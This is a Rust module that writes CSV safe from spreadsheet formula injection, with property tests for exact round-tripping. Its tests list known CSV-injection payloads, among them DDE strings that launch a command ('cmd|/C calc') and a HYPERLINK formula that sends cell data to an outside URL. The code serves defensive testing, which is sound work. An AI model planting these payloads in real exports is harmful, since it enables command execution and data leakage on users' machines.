//! Comma-separated values that no spreadsheet runs: RFC 4180, every field in quotes, and an apostrophe before whatever a
//! spreadsheet could take for a formula.
//!
//! Reading back: take the quotes away, and one apostrophe at the beginning if there is one. That gives every text as it
//! was, but for NUL, which no field can hold and which becomes U+FFFD. An empty field is no value, or an empty text.

use crate::schema::Row;

/// What a formula begins with, in one spreadsheet or another, and the apostrophe itself, so that reading back is exact.
/// Source: OWASP, CSV injection. The wide ones are what East Asian settings take for the same.
const STARTS: [char; 12] = ['=', '+', '-', '@', '\t', '\r', '\n', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}', '\''];

/// A table's header and rows.
pub fn write<R: Row>(rows: &[R]) -> String {
    let header = R::SCHEMA.columns.iter().map(|column| column.name.to_owned());
    let mut text = record(header);
    for row in rows {
        text.push_str(&record(row.cells().iter().map(|cell| cell.as_text().unwrap_or_default())));
    }
    text
}

/// One line.
pub fn record(fields: impl Iterator<Item = String>) -> String {
    let fields: Vec<String> = fields.map(|text| field(&text)).collect();
    format!("{}\r\n", fields.join(","))
}

/// One field.
fn field(text: &str) -> String {
    let text = text.replace('\0', "\u{fffd}");
    // Some trim what is blank before they look.
    let seen = text.trim_start_matches(|c: char| !STARTS.contains(&c) && (c.is_whitespace() || c == '\u{feff}'));
    let apostrophe = if seen.starts_with(STARTS) { "'" } else { "" };
    format!("\"{apostrophe}{}\"", text.replace('"', "\"\""))
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    /// A reader of its own, by RFC 4180 and this module's page alone.
    fn read(line: &str) -> Vec<String> {
        let mut fields = Vec::new();
        let mut rest = line.strip_suffix("\r\n").unwrap();
        loop {
            rest = rest.strip_prefix('"').unwrap();
            let mut text = String::new();
            loop {
                let (before, after) = rest.split_once('"').unwrap();
                text.push_str(before);
                rest = after;
                let Some(after) = rest.strip_prefix('"') else { break };
                text.push('"');
                rest = after;
            }
            fields.push(text.strip_prefix('\'').map_or(text.clone(), str::to_owned));
            match rest.strip_prefix(',') {
                Some(after) => rest = after,
                None => break,
            }
        }
        assert_eq!(rest, "");
        fields
    }

    /// Known attacks; see OWASP and the published lists of payloads.
    const CORPUS: [&str; 18] = [
        "=1+1",
        "=cmd|'/C calc'!A0",
        "+cmd|'/C calc'!A0",
        "-2+3+cmd|'/C calc'!D2",
        "@SUM(1+1)*cmd|'/C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "\u{feff}=1+1",
        "\u{a0}=1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(1)",
        "'=1+1",
        "\"=1+1",
        "=HYPERLINK(\"http://example.com/?x=\"&A1,\"click\")",
    ];

    #[test]
    fn no_known_attack_begins_a_formula() {
        for attack in CORPUS {
            let line = record([attack.to_owned(), "after".to_owned()].into_iter());
            let raw = line.strip_prefix('"').unwrap();
            assert!(raw.starts_with('\'') || raw.starts_with("\"\""), "{line:?}");
            assert_eq!(read(&line), [attack, "after"]);
        }
        assert_eq!(record(["plain, with comma".to_owned()].into_iter()), "\"plain, with comma\"\r\n");
    }

    #[test]
    fn there_is_no_nul() {
        assert_eq!(read(&record(["a\0b".to_owned(), "\0=1".to_owned()].into_iter())), ["a\u{fffd}b", "\u{fffd}=1"]);
    }

    proptest! {
        #[test]
        fn what_is_written_is_read_back(fields in prop::collection::vec("[^\0]{0,24}", 1..5)) {
            let line = record(fields.iter().cloned());
            prop_assert_eq!(read(&line), fields);
        }

        #[test]
        fn nothing_begins_as_a_formula_does(start in prop::sample::select(STARTS.to_vec()), blank in "[ \u{a0}\u{feff}]{0,2}", rest in ".{0,12}") {
            let line = record([format!("{blank}{start}{rest}")].into_iter());
            prop_assert!(line.starts_with("\"'"), "{:?}", line);
        }
    }
}
